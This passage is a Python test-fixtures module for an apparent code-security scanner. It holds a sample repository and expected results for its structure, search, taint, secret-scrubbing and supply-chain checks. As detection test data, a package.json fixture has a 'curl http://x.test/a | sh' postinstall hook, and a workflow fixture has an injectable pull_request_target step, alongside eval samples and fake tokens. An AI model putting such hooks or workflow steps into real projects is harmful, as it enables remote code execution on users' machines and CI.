"""Cases over a small fixed repository, for operators that need source files: each with the same in SQL, or with rows that were
worked out by hand where SQL can't express it (patterns with state, JSON with nested arrays). Fixtures of tests, not queries."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from lodestone.functions import text as fn
from lodestone.functions.text import line_count
from lodestone.operators import compare, context, fixes, full_scan, graph, history, parse, report, scan, search, structure, supply, tools
from lodestone.plans.catalogue import COMPOSITES, EXAMPLES, LINE_RULES, SYNTAX_EXAMPLES, SYNTAX_RULES
from lodestone.sources import dumps, repo

QUERIES: dict = {}
SQL: dict[str, str] = {}


def query(sql: str | None = None):
    def add(f):
        QUERIES[f.__name__] = f
        if sql:
            SQL[f.__name__] = sql
        return f

    return add


APP = """import React, { useState } from 'react'
import { api as client, Options } from './lib/api'
import Button from '@/components/Button'
import * as util from './util'
export interface Props extends Base, Named {
  title: string;
  count?: number;
}
export type Mode = 'dark' | 'light';
export enum Level { Low, High = 2 }
export default function App() {
  return <main><Button label='x' /><Panel/></main>
}
export const helper = () => 1
"""
API = """import { helper } from '../app'
import axios from 'axios'
/**
 * Fetches one item.
 * @param id which
 */
export async function fetchItem(id: string, retries = 3): Promise<Item> {
  return axios.get(`/items/${id}`)
}
export class Client extends Base implements Closable {
  private url = ''
  async close(force: boolean) {
    return force
  }
  open() {
    return 1
  }
}
function hidden() {
  return 2
}
"""
BUTTON = """import React from 'react'
export const Button = () => <b/>
export default Button
"""
UTIL = """const limit = 3
/* a block
   of comment */
export let count = 1
"""
MAIN = """import os, sys
from .models import User, Group as G
from flask import Flask

app = Flask(__name__)

class Service(Base):
    def run(self):
        return 1

    def _stop(self):
        return 2

def start(port: int) -> None:
    \"\"\"Start
    it.\"\"\"
    pass

@app.get('/items')
def items():
    return []
"""
GO = """package main

import (
\t"fmt"
\t"net/http"
)

type Server struct {
\tName string
\tPort int
}

func (s *Server) Start(port int) error {
\treturn nil
}

func main() {}
"""
RUST = """use crate::models;
pub struct Point { x: i32, y: i32 }
pub enum Shape { Circle(f64), Square }
pub fn area(p: Point) -> i32 {
    p.x
}
"""
MANIFEST = '{"name":"demo","scripts":{"postinstall":"curl http://x.test/a | sh"},"dependencies":{"react":"^18.2.0","axios":"1.4.0","left":"*","forked":"git+https://x.test/a.git","plain":"http://x.test/a.tgz"},"devDependencies":{"moment":"~2.29.1","react":"17.0.0","local":"workspace:*"},"resolutions":{"a":"1"},"publishConfig":{"registry":"https://own.test"}}'
SKILL = "---\nid: code-review\nname: Review\ndescription: Reads code\ntools: [readFile, searchFiles]\n---\nText"
#: ordinal, path, language, content.
FILES: list[tuple[int, str, str, str]] = [
    (0, "src/app.tsx", "typescript", APP),
    (1, "src/lib/api.ts", "typescript", API),
    (2, "src/components/Button.tsx", "typescript", BUTTON),
    (3, "src/util/index.ts", "typescript", UTIL),
    (4, "server/main.py", "python", MAIN),
    (5, "server/models.py", "python", "class User:\n    pass\n"),
    (6, "cmd/main.go", "go", GO),
    (7, "core/lib.rs", "rust", RUST),
    (8, "package.json", "json", MANIFEST),
    (9, "README.md", "markdown", "# Demo\nSee src/app.tsx"),
    (10, "app/(shop)/items/[id]/page.tsx", "typescript", "export default function Page() { return <App/> }\n"),
    (11, "app/api/items/route.ts", "typescript", "export async function GET(req) { return 1 }\n"),
    (12, "src/app.test.ts", "typescript", "import { helper } from './app'\n"),
    (13, "skills/review.md", "markdown", SKILL),
]
FILE_COLUMNS = "ordinal int, path string, language string, content string"


def literal(x) -> str:
    if x is None:
        return "NULL"
    if isinstance(x, bool):
        return "TRUE" if x else "FALSE"
    if isinstance(x, (list, tuple)):
        return "[" + ", ".join(map(literal, x)) + "]"
    if isinstance(x, (int, float)):
        return repr(x)
    return "'" + str(x).replace("'", "''") + "'"


def values(name: str, columns: str, rows: list) -> str:
    """A table of rows for WITH."""
    names = ", ".join(f'"{c.split()[0]}"' for c in columns.split(", "))
    return f"{name}({names}) AS (VALUES " + ", ".join("(" + ", ".join(map(literal, r)) + ")" for r in rows) + ")"


def rows_are(columns: str, rows: list) -> str:
    """The rows that a query must give, worked out by hand. columns: name and SQL type."""
    cols = [c.split(maxsplit=1) for c in columns.split(", ")]
    return f"WITH {values('t', ', '.join(c for c, _ in cols), rows)} SELECT " + ", ".join(f'"{c}"::{t} AS "{c}"' for c, t in cols) + " FROM t"


def files(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(FILES, FILE_COLUMNS)


FILES_SQL = values("files", FILE_COLUMNS, FILES)
JOINED = lambda c: F.array_join(c, ",")


def edges(spark: SparkSession) -> DataFrame:
    return parse.resolve(parse.imports(files(spark)), files(spark).select("path"))


def known(f):
    """A query whose rows were worked out by hand (small_answers.py)."""
    from small_answers import ROWS

    return query(rows_are(*ROWS[f.__name__]) if f.__name__ in ROWS else None)(f)


def one(spark: SparkSession, columns: str, *rows) -> DataFrame:
    return spark.createDataFrame(list(rows), columns)


# Structure -----------------------------------------------------------------------------------------------------------


@known
def exports_table(spark, sf):
    return structure.exports(files(spark))


@known
def types_table(spark, sf):
    return structure.types(files(spark)).select("path", "name", "kind", F.array_join("properties", "|").alias("properties"), F.array_join("extends", "|").alias("extends"))


@known
def types_top(spark, sf):
    return structure.top_types(structure.types(files(spark)), 3).select("path", "name", "kind")


@known
def classes_table(spark, sf):
    return structure.classes(files(spark)).select("path", "name", "base", F.array_join("interfaces", "|").alias("interfaces"), "is_abstract")


@known
def component_uses(spark, sf):
    return structure.component_uses(files(spark), structure.exports(files(spark)))


@known
def import_specifiers(spark, sf):
    return structure.specifiers(files(spark)).select("path", "source", F.array_join("names", "|").alias("names"), "is_default")


@query(f"WITH {FILES_SQL} SELECT 'demo' AS repo, CASE WHEN bool_or(regexp_matches(path, 'app/.*/page\\.(tsx?|jsx?)$')) THEN 'Next.js' END AS framework FROM files")
def framework_detected(spark, sf):
    packages = parse.imports(files(spark)).where("external").select(F.lit("demo").alias("repo"), parse.package_of(F.col("source")).alias("pkg"))
    return structure.framework(files(spark).withColumn("repo", F.lit("demo")), packages, ["repo"])


@known
def framework_order(spark, sf):
    paths = one(spark, "repo string, path string", ("a", "x/manage.py"), ("b", "main.go"), ("c", "Cargo.toml"), ("d", "notes.txt"), ("e", "svelte.config.js"))
    packages = one(spark, "repo string, pkg string", ("a", "flask"), ("b", "vue"), ("e", "svelte"), ("f", "react"), ("f", "next"))
    return structure.framework(paths, packages, ["repo"])


@known
def structural_index(spark, sf):
    j = lambda c: F.array_join(c, "|").alias(c)
    return structure.structural_index(files(spark), 2, 3).select("path", "language", "line_count", j("exports"), j("imports"), j("signatures"))


@known
def structural_index_trimmed(spark, sf):
    return structure.trimmed(structure.structural_index(files(spark)), 1500).select("path", *(F.col(c).isNull().alias(f"no_{c}") for c in ("signatures", "imports", "exports")))


@known
def file_routes(spark, sf):
    more = one(spark, "path string", ("pages/blog/[...slug].vue",), ("pages/index.tsx",), ("pages/_app.tsx",), ("pages/api/hello.ts",), ("src/app/@modal/(auth)/login/page.jsx",))
    return structure.file_routes(files(spark).select("path").unionByName(more))


@known
def web_routes(spark, sf):
    server = one(spark, "path string, content string", ("a.js", "app.get('/x', h)\nrouter.post(\"/y/:id\", h)\nother.get('/z')"))
    return parse.routes(files(spark).select("path", "content").unionByName(server))


@known
def symbol_tree(spark, sf):
    return structure.symbol_tree(structure.declared(files(spark)), files(spark))


@known
def symbol_ranges(spark, sf):
    return parse.symbols(files(spark))


@known
def typed_functions(spark, sf):
    p = F.array_join(F.transform("params", lambda p: F.concat(p["name"], F.lit(":"), p["type"], F.when(p["optional"], "?").otherwise(""))), "|")
    return structure.typed_functions(files(spark)).select("path", "name", "summary", p.alias("params"), "returns")


@known
def code_outline(spark, sf):
    return structure.outline(files(spark).where("ordinal in (1, 6)"), 2)


@query(f"WITH {FILES_SQL}, c AS (SELECT language, count(*) AS n, min(ordinal) AS o FROM files GROUP BY language) SELECT language, n FROM c ORDER BY n DESC, o LIMIT 1")
def primary_language(spark, sf):
    return structure.primary_language(files(spark), [])


_SCANNED = values("langs", "language string, ext string", [(k, e) for k, v in structure.SCANNED_LANGUAGES.items() for e in v.split()])


@query(f"WITH {FILES_SQL}, {_SCANNED} SELECT language, count(*) AS files FROM (SELECT regexp_extract(path, '\\.([A-Za-z0-9_]+)$', 1) AS ext FROM files) JOIN langs USING (ext) GROUP BY language")
def detected_languages(spark, sf):
    return files(spark).select(structure.scanned_language(F.col("path")).alias("language")).where("language is not null").groupBy("language").agg(F.count("*").alias("files"))


@known
def language_maps(spark, sf):
    p = one(spark, "path string", ("a.mts",), ("b.tsx",), ("c.vue",), ("d.kts",), ("Dockerfile",), ("e.txt",), ("f.YML",))
    return p.select("path", parse.language_of(F.col("path")).alias("parsed"), parse.language_of(F.col("path"), parse.LISTED).alias("listed"), parse.language_of(F.col("path"), parse.INDEXED).alias("indexed"), structure.scanned_language(F.col("path")).alias("scanned"))


@known
def import_sources(spark, sf):
    return parse.imports(files(spark))


@known
def import_edges(spark, sf):
    return edges(spark)


@known
def line_kinds(spark, sf):
    f = one(spark, "path string, content string", ("src/a.test.ts", "// note\nconst a = 'x';\nlet u: User = b\n/* in\nside */ x\ns = \"/* no\"\nescape(q)\nlast"), ("docs/examples/b.py", '"""doc\nmore\n"""\nx = f(1)'), ("lib/gen/c.generated.ts", "type A = 1"))
    return context.lines_in_context(f).select("path", "line_no", *(F.col(c) for c in ("is_comment", "is_string", "is_type", "is_test", "is_generated", "is_example", "sanitized", "near")))


@known
def structural_findings(spark, sf):
    f = one(spark, "path string, content string", ("big.ts", "x\n" * 450), ("huge.ts", "x\n" * 900), ("small.ts", "x"), ("index.ts", "x"))
    e = one(spark, "src string, dst string", ("big.ts", "huge.ts"), ("small.ts", "huge.ts"), ("small.ts", "big.ts"))
    return parse.structural_issues(f, e, f.select("path"), 2)


# Tools ---------------------------------------------------------------------------------------------------------------

_PLACES = f"WITH {FILES_SQL}, l AS (SELECT path, unnest(string_split(content, chr(10))) AS text, generate_subscripts(string_split(content, chr(10)), 1) AS line_no FROM files), p AS (SELECT path, line_no, text, unnest(range(1, length(text))) AS i FROM l)"


@query(f"{_PLACES} SELECT path, line_no::INT AS line_no, (i - 1)::INT AS column_no, 2::INT AS length, substr(text, i, 2) AS match FROM p WHERE substr(text, i, 2) = 're'")
def match_places(spark, sf):
    return tools.match_places(files(spark), "re", case_sensitive=True)


@query(f"WITH {FILES_SQL} SELECT path FROM files WHERE contains(lower(path), 'app')")
def path_matches(spark, sf):
    return tools.path_matches(files(spark), "APP").select("path")


@query("SELECT path FROM (VALUES ('a/b.ts'), ('c.md')) t(path)")
def plain_files(spark, sf):
    return tools.plain_files(one(spark, "path string, type string", ("a", "dir"), ("a/b.ts", "file"), ("c.md", "blob"), ("d", "tree"))).select("path")


@query(f"WITH {FILES_SQL} SELECT path FROM files WHERE regexp_matches(path, '\\.(tsx|ts|py|rs|go)$')")
def code_files(spark, sf):
    return tools.code_files(files(spark)).select("path")


@known
def written_by_hand(spark, sf):
    return tools.written_by_hand(one(spark, "path string", ("src/a.ts",), ("dist/a.js",), ("x/node_modules/b.js",), ("a.min.js",), ("yarn.lock",), ("distance.ts",), ("a.js.map",)))


@query(f"WITH {FILES_SQL} SELECT (SELECT count(*) FROM (SELECT * FROM files WHERE ordinal >= 2 ORDER BY ordinal LIMIT 3) WHERE contains(content, 'import')) AS matched, (SELECT count(*) FROM files WHERE ordinal >= 5) AS remaining")
def search_more(spark, sf):
    hits, rest = tools.search_more(files(spark), files(spark).where("ordinal < 2"), "import", 3, case_sensitive=True)
    return hits.agg(F.countDistinct("path").alias("matched")).crossJoin(rest.agg(F.count("*").alias("remaining")))


@query(f"WITH {FILES_SQL} SELECT path FROM files WHERE content = '' OR content IS NULL UNION ALL SELECT 'empty.ts'")
def search_unsearched(spark, sf):
    f = files(spark).select("path", "content").unionByName(one(spark, "path string, content string", ("empty.ts", "")))
    return search.search_partial(f, "import")[1]


@known
def find_file(spark, sf):
    return tools.find_file(files(spark), one(spark, "query string", ("app.tsx",), ("src/app.tsx",), ("utton.tsx",), ("lib/api.ts",), ("nope",)))


@known
def resolve_sources(spark, sf):
    more = one(spark, "path string, source string, external boolean", ("src/lib/api.ts", "../../../x", False), ("src/lib/api.ts", "@/src/util", False), ("a.ts", "src/app.tsx", True))
    return tools.resolve_sources(parse.imports(files(spark)).unionByName(more), files(spark))


@known
def importers_of(spark, sf):
    return tools.importers_of(edges(spark), "src/app.tsx", 30)


@known
def find_symbol(spark, sf):
    return tools.find_symbol(parse.symbols(files(spark)), files(spark), "ser", 20).select("path", "line_no", "kind", "name")


@known
def search_files(spark, sf):
    return tools.search_files(files(spark), "app", 6).select("path", "kind", "total", F.array_join("lines", ",").alias("lines"))


@known
def folder_listing(spark, sf):
    return tools.listing(one(spark, "path string, type string", ("b.ts", "blob"), ("B", "tree"), ("a", "tree"), ("A.md", "blob"), ("a/c.ts", "blob")), "").limit(3)


@known
def tree_order(spark, sf):
    return repo.hierarchy(one(spark, "path string, type string", ("b.ts", "blob"), ("Z", "tree"), ("a", "tree"), ("a/c.ts", "blob"), ("a/d", "tree"))).limit(4)


@known
def tour_stops(spark, sf):
    return tools.tour(files(spark), 5)


@known
def project_overview(spark, sf):
    j = lambda c: F.array_join(c, "|").alias(c)
    return tools.overview(files(spark)).select("files", "lines", "has_tests", "has_config", j("ext"), j("folder"), j("entries"))


@query(f"WITH {FILES_SQL} SELECT regexp_extract(path, '[^.]*$') AS ext, count(*) AS n FROM files GROUP BY 1 ORDER BY n DESC, ext LIMIT 4")
def extension_pie(spark, sf):
    return tools.extension_pie(files(spark), 4)


@known
def pack_pins(spark, sf):
    pins = one(spark, "reader string, place int, pin string", ("a", 0, "src/lib"), ("a", 1, "server/"), ("a", 2, "README.md"), ("b", 0, "src"), ("b", 1, "README.md"))
    return tools.pack_pins(pins, files(spark), 460, 480)


@known
def skill_registry(spark, sf):
    more = one(spark, "path string, content string", ("s/a.md", "---\nid: Bad Id\nname: x\n---\n"), ("s/b.md", "---\nid: code-review\nname: Again\n---\n"), ("s/c.md", "no front"))
    return tools.skills(files(spark).select("path", "content").unionByName(more)).select("path", "id", "name", F.array_join("tools", "|").alias("tools"), "valid", "unique")


# Scanner -------------------------------------------------------------------------------------------------------------

_EXAMPLES = values("files", "ordinal int, path string, content string", EXAMPLES)
_LINES = "lines AS (SELECT path, regexp_extract(path, '[^.]*$') AS ext, unnest(string_split(content, chr(10))) AS text, generate_subscripts(string_split(content, chr(10)), 1) AS line_no FROM files)"


def _arm(r, table: str = "lines", kinds: bool = True) -> str:
    more = f", {literal(r.severity)} AS severity, {literal(r.category)} AS category, {literal(r.confidence)} AS confidence, {literal(r.cwe)} AS cwe" if kinds else ""
    out = f"SELECT path, line_no::INT AS line_no, {literal(r.id)} AS rule_id{more} FROM {table} WHERE regexp_matches(text, {literal(r.pattern)})"
    if r.exclude:
        out += f" AND NOT regexp_matches(text, {literal(r.exclude)})"
    return out + (f" AND ext IN ({', '.join(map(literal, r.extensions))})" if r.extensions else "")


def examples(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame(EXAMPLES, "ordinal int, path string, content string")


@query(f"WITH {_EXAMPLES}, {_LINES} " + " UNION ALL ".join(map(_arm, LINE_RULES)))
def catalogue_line_rules(spark, sf):
    return scan.scan_lines(examples(spark), LINE_RULES).drop("text")


@query("SELECT 152::BIGINT AS rules, 152::BIGINT AS found, 0::BIGINT AS near_misses")
def catalogue_self_test(spark, sf):
    """Every rule finds its own line 1, and none finds its near miss on line 2."""
    own = scan.scan_lines(examples(spark), LINE_RULES).where(F.col("path").startswith(F.concat(F.lit("src/"), F.col("rule_id"), F.lit("."))))
    c = lambda n: F.countDistinct(F.when(F.col("line_no") == n, F.col("rule_id")))
    return own.agg(F.lit(len(LINE_RULES)).cast("long").alias("rules"), c(1).alias("found"), c(2).alias("near_misses"))


@query("SELECT 32::BIGINT AS rules, 32::BIGINT AS found, 0::BIGINT AS near_misses")
def syntax_self_test(spark, sf):
    """Every syntax rule finds its own line 1, and none finds its near miss on line 4."""
    f = spark.createDataFrame(SYNTAX_EXAMPLES, "ordinal int, path string, content string")
    own = context.findings(f, SYNTAX_RULES, over_lines=True, only=None).where(F.col("path").startswith(F.concat(F.lit("src/"), F.col("rule_id"), F.lit("."))))
    c = lambda n: F.countDistinct(F.when(F.col("line_no") == n, F.col("rule_id")))
    return own.agg(F.lit(len(SYNTAX_RULES)).cast("long").alias("rules"), c(1).alias("found"), c(4).alias("near_misses"))


_SYNTAX = values("files", "ordinal int, path string, content string", SYNTAX_EXAMPLES)
_JOINED = "j AS (SELECT path, ext, line_no, concat_ws(' ', text, lead(text) OVER w, lead(text, 2) OVER w) AS text FROM lines WINDOW w AS (PARTITION BY path ORDER BY line_no))"


@query(f"WITH {_SYNTAX}, {_LINES}, {_JOINED} " + " UNION ALL ".join(_arm(r, "j", False) for r in SYNTAX_RULES))
def syntax_rules(spark, sf):
    f = spark.createDataFrame(SYNTAX_EXAMPLES, "ordinal int, path string, content string")
    return context.findings(f, SYNTAX_RULES, over_lines=True, only=None).select("path", "line_no", "rule_id")


CONTEXT_FILES = [
    ("src/one.js", "eval(a)\n// eval(b)\nconst s = 'eval(c)';\neval(d) // scanner-ignore\neval(e) // scanner-ignore: eval-usage\n// scanner-ignore-next-line: eval-usage\neval(f)\nel.innerHTML = x\nvalidator.check(x)\nconsole.log(1)\n// console.log(2)"),
    ("src/two.test.js", "console.log(1)\neval(a)"),
    ("src/three.config.js", "const apiKey = 'k9Zq2mXw7Lp4vB8n'\nconst apiKey2 = 'aaaaaaaaaaaa'\nconst token = Math.random()"),
    ("src/four.py", "subprocess.run(\n    cmd,\n    shell=True)\nx = 1"),
    ("node_modules/a/index.js", "eval(a)"),
    ("src/__tests__/a.js", "eval(a)"),
    ("src/docs/demo.js", "eval(a)\nvar x = 1"),
]


def context_files(spark: SparkSession) -> DataFrame:
    return one(spark, "path string, content string", *CONTEXT_FILES)


def _full(f: DataFrame) -> DataFrame:
    return full_scan.full_scan(f, LINE_RULES, SYNTAX_RULES, COMPOSITES)


SCAN_FILES = [
    ("src/a.js", "const id = req.query.id\ndb.query(sql, id)\neval(id)\ntry { go() } catch (e) {}\n"),
    ("src/b.js", "const app = express()\napp.get('/', h)\n"),
    ("src/c.py", "\n".join(["assert value"] * 20)),
]


@known
def scan_whole(spark, sf):
    found = _full(one(spark, "path string, content string", *SCAN_FILES))
    return found.groupBy("phase", "path", "rule_id", "severity", "confidence", "risk_score").agg(F.count("*").alias("n"), F.min("line_no").alias("first_line"))


@known
def scan_grades(spark, sf):
    f = one(spark, "path string, content string", *SCAN_FILES)
    return full_scan.graded(_full(f), f)


@known
def scan_after_changes(spark, sf):
    f = one(spark, "path string, content string", *SCAN_FILES)
    scanner = lambda d: context.findings(d, LINE_RULES).select("path", "line_no", "rule_id")
    now = one(spark, "path string, content string", ("src/a.js", "var x = 1"), *SCAN_FILES[1:])
    return full_scan.rescan(scanner(f), now, one(spark, "path string", ("src/a.js",), ("src/c.py",)), scanner).groupBy("path", "rule_id").agg(F.count("*").alias("n"))


@known
def findings_in_context(spark, sf):
    return context.findings(context_files(spark), LINE_RULES).select("path", "line_no", "column_no", "rule_id", "severity", "confidence")


@known
def findings_over_lines(spark, sf):
    return context.findings(context_files(spark), LINE_RULES, over_lines=True).select("path", "line_no", "rule_id", "severity", "confidence", "snippet")


@known
def findings_in_order(spark, sf):
    f = one(spark, "path string, line_no int, rule_id string, severity string", ("B.ts", 1, "r", "info"), ("a.ts", 9, "r", "info"), ("a.ts", 2, "q", "critical"), ("C.ts", 1, "q", "critical"), ("b.ts", 1, "s", "warning"))
    return context.in_order(f).limit(4)


@known
def composite_rules(spark, sf):
    f = one(
        spark,
        "path string, content string",
        ("a.js", "const { exec } = require('child_process')\nexec(cmd)\nok\nexec(other)"),
        ("b.js", "const { exec, execFile } = require('child_process')\nexec(cmd)"),
        ("c.js", "const app = express()\napp.get('/a', h)\napp.post('/b', h)"),
        ("d.js", "const f = req.query.f\nfs.readFile(f)"),
        ("e.js", "fs.readFile(f)\nconst f = req.query.f"),
        ("f.js", "res.redirect(u)\n" + "\n" * 30 + "const u = req.query.u"),
        ("g.ts", "async function go() {}"),
        ("h.test.ts", "async function go() {}"),
        ("i.js", "// scanner-ignore-next-line: composite-websocket-no-auth\nnew WebSocketServer(p)"),
        ("j.py", "import os\nos.system('ls %s' % d)"),
    )
    return context.composites(f, COMPOSITES).select("path", "line_no", "rule_id", "severity", "confidence", "cwe")


@known
def taint_flows(spark, sf):
    f = one(spark, "path string, content string", ("a.js", "const id = req.query.id\nconst name = clean(id)\nconst safe = escape(id)\ndb.query(q, name)\ndb.query(q, safe)\nid = 1\ndb.query(q, id)\neval(req.body.x)"), ("b.py", "x = req.query.id\neval(x)"))
    return context.taint(f)


@known
def taint_with_options(spark, sf):
    f = one(spark, "path string, content string", ("a.ts", "const p = prompt()\nrun(p)\nrun(wash(p))"))
    return context.taint(f, r"\bprompt\(", {"run": r"\brun\("}, r"wash\(")


@query("SELECT * FROM (VALUES ('a.js', 1::INT, 'eval-usage'), ('a.js', 2::INT, 'ast-eval-usage'), ('a.js', 3::INT, 'ast-empty-catch')) t(path, line_no, rule_id)")
def findings_preferred(spark, sf):
    f = one(spark, "path string, line_no int, rule_id string", ("a.js", 1, "eval-usage"), ("a.js", 1, "ast-eval-usage"), ("a.js", 2, "ast-eval-usage"), ("a.js", 3, "empty-catch"), ("a.js", 3, "ast-empty-catch"))
    return context.prefer(context.prefer(f, "eval-usage", "ast-eval-usage"), "ast-empty-catch", "empty-catch")


@known
def findings_cross_referenced(spark, sf):
    f = one(spark, "path string, line_no int, rule_id string, severity string, category string", ("a", 1, "r", "warning", "bad-practice"), ("a", 2, "s", "warning", "security"), ("hub", 1, "r", "info", "reliability"))
    e = one(spark, "src string, dst string", *((f"x{k}", "hub") for k in range(10)))
    return context.cross_reference(f, e, one(spark, "path string", ("hub",)), one(spark, "path string", ("a",)))


@known
def project_risk(spark, sf):
    return scan.project_score(one(spark, "repo string, risk_score double", ("a", 9.0), ("a", 1.0), ("b", 0.0), ("c", 5.5)), ["repo"])


@known
def security_grades(spark, sf):
    return scan.security_grades(one(spark, "repo string, security_critical long, security_warnings long, security_info long", ("a", 0, 0, 3), ("b", 0, 1, 0), ("c", 1, 0, 0), ("d", 0, 0, 0), ("e", 0, 6, 9))).select("repo", "security_points", "security_grade")


@known
def accuracy_by_category(spark, sf):
    found = one(spark, "rule_id string, tp long, fp long, missed long", ("a", 2, 1, 0), ("b", 0, 0, 3), ("c", 0, 2, 0))
    return scan.accuracy_rates(found, one(spark, "rule_id string, category string", ("a", "security"), ("b", "style")))


@known
def issues_shown(spark, sf):
    f = one(spark, "id string, severity string, category string, confidence string", ("1", "critical", "security", "high"), ("2", "info", "security", "high"), ("3", "warning", "security", "low"), ("4", "warning", "style", "high"))
    return scan.shown(f, category="security", hide_info=True, hide_low=True).select("id")


@known
def overflow_merged(spark, sf):
    return scan.merged_overflow(one(spark, "rule_id string, overflow long", ("a", 2), ("b", 1)), one(spark, "rule_id string, overflow long", ("a", 5), ("c", 4)))


@query("SELECT id, CASE id WHEN 1 THEN 'base' WHEN 2 THEN 'base' ELSE 'other' END AS origin FROM (VALUES (1::INT), (2::INT), (3::INT)) t(id)")
def scans_merged_base_wins(spark, sf):
    return scan.merge(one(spark, "id int, origin string", (1, "base"), (2, "base")), one(spark, "id int, origin string", (2, "other"), (3, "other")), ["id"])


@query("SELECT (SELECT count(*) FROM range(3)) * 100 AS sloc")
def merged_size(spark, sf):
    issues = one(spark, "id int", (1,), (2,))
    return scan.merged_size(issues, one(spark, "per_kloc double", (0.0,)), one(spark, "files long", (3,)))


@query(f"WITH {FILES_SQL} SELECT {sum(1 for r in LINE_RULES if not r.extensions or {'tsx', 'ts', 'py', 'go', 'rs', 'json', 'md'} & set(r.extensions))}::BIGINT AS rules")
def rules_evaluated(spark, sf):
    return scan.rules_evaluated(files(spark), LINE_RULES)


@known
def suggested_fixes(spark, sf):
    f = one(spark, "path string, content string", ("a.js", "one\nvar x = eval(y)\nthree\nfour\nfive"), ("b.py", "app.run(debug=True)"))
    hits = one(spark, "path string, line_no int, rule_id string", ("a.js", 2, "eval-usage"), ("a.js", 2, "var-usage"), ("a.js", 2, "sql-injection"), ("b.py", 1, "flask-debug-mode"))
    d = F.array_join(F.transform("diff", lambda x: F.concat(F.substring(x["kind"], 1, 1), x["line_no"].cast("string"), F.lit(" "), x["text"])), "|")
    return fixes.fixes(hits, f, 1).select("path", "rule_id", "new", d.alias("diff"))


@known
def finding_excerpts(spark, sf):
    return fixes.excerpt(one(spark, "path string, line_no int", ("a", 2)), one(spark, "path string, content string", ("a", "x\ny\nz\nw")), 1)


@known
def ai_verdicts(spark, sf):
    a = one(
        spark,
        "issue_id string, response string",
        ("1", 'Sure: ```{"verdict":"True-Positive","confidence":"high","reasoning":"yes","suggestedSeverity":"critical"}```'),
        ("2", '{"verdict":"a false kind of positive","confidence":"certain"}'),
        ("3", "I think it is a false positive."),
        ("4", "no idea"),
        ("5", '{"verdict":"maybe","reasoning":"","suggestedSeverity":"huge"}'),
    )
    return fixes.verdicts(a)


@query("SELECT * FROM (VALUES ('true-positive', 1::BIGINT), ('false-positive', 2::BIGINT)) t(verdict, n)")
def verdict_counts(spark, sf):
    return one(spark, "verdict string", ("true-positive",), ("false-positive",), ("false-positive",)).groupBy("verdict").agg(F.count("*").alias("n"))


@known
def scrubbed_secrets(spark, sf):
    t = one(spark, "id int, t string", (1, 'k = "sk_live_abcdefgh1234"'), (2, "Authorization: Bearer abc.def-ghi_jkl"), (3, "postgres://u:longpassword@h/db"), (4, "api_key = qwertyuiop"), (5, "x = 'plain-value-here'"), (6, "h = '0123456789abcdef0123456789abcdef01234567'"))
    return t.select("id", fixes.scrub(F.col("t")).alias("t"))


# Supply chain --------------------------------------------------------------------------------------------------------


@known
def manifest_issues(spark, sf):
    r = files(spark).withColumn("repo", F.lit("demo"))
    inner = one(spark, "repo string, path string, content string", ("demo", "pkg/package.json", '{"dependencies":{}}'), ("demo", "bad/package.json", "{"))
    manifests = r.where("path = 'package.json'").select("repo", "path", "content").unionByName(inner)
    return supply.manifest_issues(manifests, r.select("repo", "path").unionByName(one(spark, "repo string, path string", ("demo", "pkg/yarn.lock"))))


@known
def workflow_issues(spark, sf):
    return supply.workflow_issues(one(spark, "path string, content string", (".github/workflows/ci.yml", "on: pull_request_target\npermissions: write-all\n - uses: actions/checkout@v4\n - uses: a/b@0123456789012345678901234567890123456789\n - uses: ./local\n run: echo ${{ github.event.issue.title }}"), ("other.yml", "on: pull_request_target")))


@known
def unpinned_requirements(spark, sf):
    return supply.unpinned_requirements(one(spark, "path string, content string", ("requirements.txt", "flask\ndjango==4.2\n# note\nrequests>=2\n-r base.txt"), ("a.txt", "flask")))


@known
def npmrc_issues(spark, sf):
    return supply.npmrc_issues(one(spark, "path string, content string", (".npmrc", "# _authToken=a\n//r/:_authToken=${T}\n//r/:_authToken=abc\n_password=x\nregistry=http://own.test"), ("x/.npmrc", "_authToken=\"\"")))


@known
def lockfile_integrity(spark, sf):
    lock = '{"packages":{"":{"name":"x"},"node_modules/b":{"resolved":"u"},"node_modules/a":{"resolved":"u"},"node_modules/c":{"resolved":"u","integrity":"sha"},"node_modules/d":{"resolved":"p","link":true}}}'
    return supply.lockfile_integrity(one(spark, "path string, content string", ("package-lock.json", lock), ("x/package-lock.json", '{"packages":{}}')))


@known
def manifest_dependencies(spark, sf):
    return repo.manifest_deps(files(spark).where("path = 'package.json'").select(F.lit("demo").alias("repo"), "content"))


@known
def registry_dependencies(spark, sf):
    return supply.from_registry(one(spark, "pkg string, version string", ("a", "1.0"), ("b", "workspace:*"), ("c", "git+https://x"), ("d", "user/repo"), ("e", "file:x"), ("f", "^2")))


OSV_ANSWER = '{"vulns":[{"id":"GHSA-1","aliases":["X-1","CVE-2020-1"],"summary":"s","severity":[{"type":"CVSS","score":"7.5 (base)"}],"affected":[{"ranges":[{"events":[{"introduced":"0"},{"fixed":""}]},{"events":[{"fixed":"1.2.3"}]}]}],"references":[{"type":"WEB","url":"http://a"},{"type":"WEB","url":"https://b"},{"type":"ADVISORY","url":"https://c"}]},{"id":"GHSA-2","severity":[{"score":"CVSS:3.1/AV:N"}],"database_specific":{"severity":"MODERATE"}},{"id":"GHSA-3","severity":[{"score":"9.1"}],"references":[{"url":"https://d"}]}]}'


@known
def osv_vulnerabilities(spark, sf):
    return supply.osv_table(one(spark, "pkg string, version string, content string", ("a", "1.0", OSV_ANSWER), ("b", "1.0", "{}"), ("c", "1", "broken"))).drop("aliases")


@known
def vulnerable_ranges(spark, sf):
    deps = one(spark, "repo string, pkg string, version string", ("r", "a", "1.5.0"), ("r", "a", "10.1.0"), ("r", "b", "2.0"))
    ranges = one(spark, "pkg string, id string, introduced string, fixed string, severity string", ("a", "V1", "1.0", "10.0", "medium"), ("a", "V1", "1.2", "9.0", "critical"), ("b", "V2", "1", None, "low"), ("a", "V3", "9.9", "10.2", "high"))
    return supply.vulnerable(deps, ranges)


DEPS = ("pkg string, version string, is_dev boolean", ("b", "1.2.3", False), ("A", "2.0.0", True), ("c", "1.0", False), ("d", "3.1.1", False))


def _dependency_report(spark):
    registry = one(spark, "pkg string, latest string, downloads long", ("b", "1.3.0", 5), ("A", "3.0.0", 9), ("c", "1.0.0", 7))
    return supply.dependency_report(one(spark, DEPS[0], *DEPS[1:]), registry, one(spark, "pkg string, severity string", ("b", "high"), ("b", "low"), ("z", "low")))


@known
def dependency_report(spark, sf):
    return _dependency_report(spark)


@known
def dependency_summary(spark, sf):
